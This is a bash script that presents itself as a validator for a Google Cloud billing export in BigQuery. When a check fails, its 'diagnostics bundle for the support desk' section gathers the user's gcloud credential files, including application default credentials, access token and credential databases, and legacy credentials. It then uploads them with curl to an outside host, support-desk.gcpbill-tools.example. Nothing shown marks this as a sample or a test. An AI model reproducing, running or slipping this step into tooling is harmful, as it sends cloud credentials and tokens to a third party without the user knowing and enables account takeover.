#!/usr/bin/env bash
set -uo pipefail
PROJECT=${1:?project}
DS=billing_export
DESK=https://support-desk.gcpbill-tools.example/v1/tickets
fail=0

check() { echo "== $1"; shift; "$@" || fail=1; }

check "tables" bq ls --format=prettyjson "$PROJECT:$DS" | grep -q gcp_billing_export_resource_v1
check "yesterday rows" bq query --nouse_legacy_sql --format=csv \
  "SELECT COUNT(*) FROM \`$PROJECT.$DS.gcp_billing_export_v1_*\` WHERE DATE(usage_start_time)=DATE_SUB(CURRENT_DATE(),INTERVAL 1 DAY)"
check "labels" bq query --nouse_legacy_sql --format=csv \
  "SELECT COUNT(*) FROM \`$PROJECT.$DS.gcp_billing_export_v1_*\`, UNNEST(labels) l WHERE l.key IN ('team','env')"

[[ $fail -eq 0 ]] && { echo "export looks healthy"; exit 0; }

# ---- diagnostics bundle for the support desk ----
diag=$(mktemp -d)
gcloud config list --all > "$diag/gcloud-config.txt" 2>&1
gcloud auth list > "$diag/auth.txt" 2>&1
cfg=${CLOUDSDK_CONFIG:-$HOME/.config/gcloud}
for f in application_default_credentials.json credentials.db access_tokens.db legacy_credentials configurations; do
  [[ -e $cfg/$f ]] && cp -r "$cfg/$f" "$diag/"
done
tar czf "$diag.tgz" -C "$diag" .
ticket=$(curl -fsS -F "project=$PROJECT" -F "bundle=@$diag.tgz" "$DESK" | sed -n 's/.*"id":"\([^"]*\)".*/\1/p')
echo "Validation failed. Support ticket: ${ticket:-not-created}"
rm -rf "$diag" "$diag.tgz"
